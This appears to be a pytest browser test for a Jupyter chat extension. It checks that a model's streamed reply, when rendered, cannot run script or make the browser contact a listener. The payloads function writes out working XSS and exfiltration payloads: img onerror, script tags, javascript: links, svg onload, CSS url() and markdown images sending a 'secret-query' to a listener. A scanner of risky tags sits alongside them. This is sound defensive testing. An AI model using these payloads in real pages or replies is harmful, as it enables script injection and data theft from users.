"""End to end in JupyterLab and Notebook 7 + chromium: model output cannot run script or phone home.

A ``%%chatimg`` cell streams a reply full of injection payloads (each would set
``window.__pwned`` / ``document.title``, or make the browser request a URL on a
loopback listener). After it has rendered, while streaming, and again after the
notebook is saved and reopened, no script has run and the listener has
received nothing from the browser; every output state shown while it streams is
scanned too. Two positive controls show that the checks can fail: an HTML output
made by code does load the listener and run its handler, and
``ChatImg.trust_html = True`` lets the payloads run (and the scan while streaming
sees them). The whole module runs in each front end, the controls included.

The kernel is told not to fetch any returned image (``image_hosts``), so every
request the listener sees comes from the browser.
"""

from __future__ import annotations

import json
import time
from collections.abc import Iterator
from typing import Any

import pytest
from _servers import ReplayServer
from harness import JupyterServer, NotebookPage

pytestmark = [pytest.mark.browser, pytest.mark.timeout(300)]

NOTEBOOK = "injection.ipynb"
END = "End of the payloads."


def payloads(listener: str) -> str:
    return "\n\n".join(
        [
            "Code stays literal: `<b>bold?</b>`.",
            "<img src=x onerror=\"window.__pwned='img';document.title='pwned'\">",
            "<script>window.__pwned='script';document.title='pwned'</script>",
            "[click me](javascript:window.__pwned='md-link')",
            '<a href="javascript:window.__pwned=\'a\'" target="_self">raw link</a>',
            f"![remote]({listener}/leak?q=secret-query)",
            f"![ref leak][r]\n\n[r]: {listener}/leak?q=ref",
            f"<{listener}/autolink>",
            f'<img src="{listener}/raw-img?q=1">',
            f"<style>body {{ background: url({listener}/css) }}</style>",
            f'<link rel="stylesheet" href="{listener}/link.css">',
            "<svg onload=\"window.__pwned='svg'\"></svg>",
            "<iframe src=\"javascript:parent.__pwned='iframe'\"></iframe>",
            "<details open ontoggle=\"window.__pwned='details'\">x</details>",
            f'<video src="{listener}/video" onerror="window.__pwned=\'video\'"></video>',
            f"$\\href{{{listener}/math}}{{math link}}$ and "
            f"$\\style{{background:url({listener}/mathcss)}}{{x}}$",
            "<!--><img src=x onerror=\"window.__pwned='comment1'\">-->",
            END,
            "<!-- --!><img src=x onerror=\"window.__pwned='comment2'\">",
        ]
    )


def sse(text: str, size: int = 4) -> bytes:
    out = [
        "data: "
        + json.dumps({"choices": [{"index": 0, "delta": {"content": text[i : i + size]}}]})
        + "\n\n"
        for i in range(0, len(text), size)
    ]
    out.append('data: {"choices":[{"index":0,"delta":{},"finish_reason":"stop"}]}\n\n')
    return ("".join(out) + "data: [DONE]\n\n").encode()


@pytest.fixture(scope="module")
def listener(jupyter_server: JupyterServer) -> Iterator[ReplayServer]:
    # One per front end: each front end's run must start with no request recorded.
    with ReplayServer() as srv:
        yield srv


@pytest.fixture(scope="module")
def endpoint(listener: ReplayServer) -> Iterator[ReplayServer]:
    with ReplayServer() as srv:
        srv.add_sse("POST", "/v1/chat/completions", sse(payloads(listener.base_url)), delay=0.002)
        yield srv


@pytest.fixture(scope="module")
def page(
    jupyter_server: JupyterServer,
    notebook_page: NotebookPage,
    endpoint: ReplayServer,
    listener: ReplayServer,
) -> NotebookPage:
    jupyter_server.write_notebook(
        NOTEBOOK,
        [
            "%load_ext jupyter_chatimg\n%config ChatImg.image_hosts = ['allowed.invalid']",
            f"%%chatimg --base-url {endpoint.url}\nShow me everything.",
            "from IPython.display import HTML\n"
            f'HTML(\'<img src="{listener.base_url}/control" onerror="window.__control = 1">\')',
            f"%config ChatImg.trust_html = True\n%chatimg --base-url {endpoint.url} Again, trusted.",
        ],
    )
    notebook_page.open_notebook(NOTEBOOK)
    return notebook_page


def state(page: NotebookPage) -> dict[str, Any]:
    return dict(
        page.page.evaluate(
            "() => ({pwned: window.__pwned || null, title: document.title,"
            " control: window.__control || null})"
        )
    )


def browser_requests(listener: ReplayServer) -> list[str]:
    return [f"{r.path}?{r.query}" if r.query else r.path for r in listener.requests]


_DANGEROUS = """(nodes) => {
    const risky = ['img', 'script', 'iframe', 'svg', 'style', 'link', 'video', 'audio',
                   'details', 'object', 'embed', 'source', 'form', 'base', 'meta'];
    const urls = ['href', 'src', 'srcset', 'xlink:href', 'action', 'formaction', 'poster', 'data'];
    const bad = [];
    for (const node of nodes) {
        for (const el of node.querySelectorAll('*')) {
            const tag = el.tagName.toLowerCase();
            if (risky.includes(tag)) bad.push(tag);
            for (const attr of el.attributes) {
                if (attr.name.startsWith('on')) bad.push(`${tag}@${attr.name}`);
                if (urls.includes(attr.name) && !/^(https?:|mailto:|#)/i.test(attr.value.trim()))
                    bad.push(`${tag}@${attr.name}=${attr.value}`);
                if (attr.name === 'style' && /url\\(/i.test(attr.value)) bad.push(`${tag}@style`);
            }
        }
    }
    return bad;
}"""


def watch_while_streaming(page: NotebookPage, index: int) -> None:
    """At every DOM change of cell ``index``, scan its outputs and note any script run."""
    page.page.evaluate(
        """([path, index, scan]) => {
            const cell = [...document.querySelectorAll('.jp-NotebookPanel')]
                .find((n) => n.getAttribute('data-chatimg-path') === path)
                .querySelectorAll('.jp-Notebook .jp-Cell')[index];
            const check = eval(scan);
            const found = window.__chatimgStreamingBad = [];
            window.__chatimgStreamingChecks = 0;
            new MutationObserver(() => {
                window.__chatimgStreamingChecks += 1;
                for (const bad of check(cell.querySelectorAll('.jp-OutputArea-output')))
                    if (!found.includes(bad)) found.push(bad);
                if (window.__pwned && !found.includes('pwned')) found.push('pwned');
            }).observe(cell, {subtree: true, childList: true, characterData: true});
        }""",
        [page.notebook, index, _DANGEROUS],
    )


def seen_while_streaming(page: NotebookPage) -> tuple[int, list[str]]:
    """How many DOM changes were checked, and what the checks found."""
    checks, bad = page.page.evaluate(
        "() => [window.__chatimgStreamingChecks, window.__chatimgStreamingBad]"
    )
    return int(checks), list(bad)


def assert_rendered_inert(page: NotebookPage, index: int) -> None:
    outputs = page.cell(index).locator(".jp-OutputArea-output")
    assert outputs.evaluate_all(_DANGEROUS) == []
    html = page.output_html(index)
    assert "<code>&lt;b&gt;bold?&lt;/b&gt;</code>" in html  # code spans stay literal


def test_payloads_neither_run_nor_load_anything(page: NotebookPage, listener: ReplayServer) -> None:
    page.run_cell(0)
    page.wait_until_executed(0)
    page.record_outputs(1, "injection")
    watch_while_streaming(page, 1)
    page.run_cell(1)
    page.wait_for_output(1, END)
    page.wait_until_executed(1)
    seen = page.recorded_outputs("injection")
    assert len(seen) >= 3, seen  # it streamed: several states were on screen
    checks, bad = seen_while_streaming(page)
    assert checks >= len(seen) and bad == []  # inert in every state shown while streaming
    assert_rendered_inert(page, 1)
    assert state(page)["pwned"] is None
    assert "pwned" not in state(page)["title"]
    assert browser_requests(listener) == []
    page.screenshot("injection_rendered")


def test_saved_and_reopened_it_is_still_inert(
    jupyter_server: JupyterServer, page: NotebookPage, listener: ReplayServer
) -> None:
    page.page.keyboard.press("ControlOrMeta+s")
    saved = jupyter_server.root_dir / NOTEBOOK
    deadline = time.monotonic() + 30
    while END not in saved.read_text(encoding="utf-8"):
        assert time.monotonic() < deadline, "the notebook was not saved"
        time.sleep(0.1)
    page.open_notebook(NOTEBOOK)  # a fresh page load: window state starts over
    page.wait_for_output(1, END)
    assert_rendered_inert(page, 1)
    assert state(page)["pwned"] is None and "pwned" not in state(page)["title"]
    assert browser_requests(listener) == []


def test_positive_control_html_from_code_loads_and_runs(
    page: NotebookPage, listener: ReplayServer
) -> None:
    # Had anything above reached the browser as HTML, it would have loaded by now: a
    # request to the listener and a handler run are what this output does at once.
    page.run_cell(2)
    page.wait_until_executed(2)
    listener.wait_for_requests(1, timeout=30)
    page._wait("the control's onerror handler", "() => window.__control === 1")
    assert browser_requests(listener) == ["/control"]
    assert state(page)["pwned"] is None


def test_trust_html_lets_the_payloads_run(page: NotebookPage, listener: ReplayServer) -> None:
    watch_while_streaming(page, 3)
    page.run_cell(3)
    page.wait_for_output(3, END)
    page.wait_until_executed(3)
    page._wait("a trusted payload to run", "() => !!window.__pwned")
    _, bad = seen_while_streaming(page)
    assert "script" in bad and "pwned" in bad, bad  # the scan while streaming can fail
    requests = browser_requests(listener)
    assert "/raw-img?q=1" in requests
    # Markdown images are never loaded by the browser, trusted or not: the kernel fetches
    # them (here it may not: image_hosts).
    assert not any(r.startswith("/leak") for r in requests), requests
